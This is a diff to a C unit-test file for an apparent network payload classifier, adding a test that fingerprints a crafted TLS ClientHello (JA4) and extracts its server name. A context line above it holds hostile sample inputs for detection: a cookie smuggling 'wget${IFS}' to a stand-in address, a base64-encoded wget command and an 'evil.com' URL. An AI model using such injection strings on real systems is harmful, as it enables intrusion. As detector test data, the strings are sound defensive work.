@@ -275,6 +275,37 @@ static const char whole[] =
 	"Host: h\r\nCookie: \\x41\\u0042=wget${IFS}192.0.2.1/x\r\n\r\n"
 	"d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa http://u@evil.com:1/";
 
+/* Who asks over TLS is told by how, whatever is random in it, and whom it asks for is a name. */
+static void a_tls_client_has_a_fingerprint_and_asks_for_a_name(void **state)
+{
+	uint8_t hello[] = "\x16\3\1\0\x47\1\0\0\x43\3\3"
+			  "01234567890123456789012345678901\0\0\4\x13\1\xc0\x2b\1\0\0\x16"
+			  "\0\0\0\x12\0\x10\0\0\x0dvpn.example.o";
+	const size_t n = sizeof(hello) - 1;
+	struct noro_payload_rules *r;
+	struct noro_payload m, other;
+
+	(void)state;
+	assert_int_equal(noro_payload_rules_new(checks, &r, NULL), NORO_OK);
+	m = (struct noro_payload){ .byte = hello, .n = n, .port = "tcp/443" };
+	assert_int_equal(noro_payload_judge(r, arena, &m, NULL), NORO_OK);
+	assert_non_null(m.ja4);
+	assert_memory_equal(m.ja4, "t12d020100_", 11);
+	assert_int_equal(m.urls.n, 1);
+	assert_string_equal(m.urls.item[0], "vpn.example.o");
+	memcpy(hello + 11, "another random number of 32 byte", 32);
+	other = (struct noro_payload){ .byte = hello, .n = n, .port = "tcp/443" };
+	assert_int_equal(noro_payload_judge(r, arena, &other, NULL), NORO_OK);
+	assert_string_equal(other.ja4, m.ja4);
+	assert_true(other.simhash == m.simhash);
+	assert_string_not_equal(other.sha256, m.sha256);
+	/* one that is cut has none */
+	other.n = n - 1;
+	assert_int_equal(noro_payload_judge(r, arena, &other, NULL), NORO_OK);
+	assert_null(other.ja4);
+	noro_payload_rules_free(r);
+}
+
 static void every_prefix_is_judged(void **state)
 {
 	struct noro_arena *a = noro_arena_new(0);
@@ -359,6 +390,7 @@ int main(void)
 		cmocka_unit_test(it_names_where_things_come_from),
 		cmocka_unit_test(near_texts_are_near_numbers),
 		cmocka_unit_test(vulnerabilities_are_named),
+		cmocka_unit_test(a_tls_client_has_a_fingerprint_and_asks_for_a_name),
 		cmocka_unit_test(every_prefix_is_judged),
 		cmocka_unit_test(without_memory_it_says_so),
 		cmocka_unit_test(nothing_makes_it_slow),
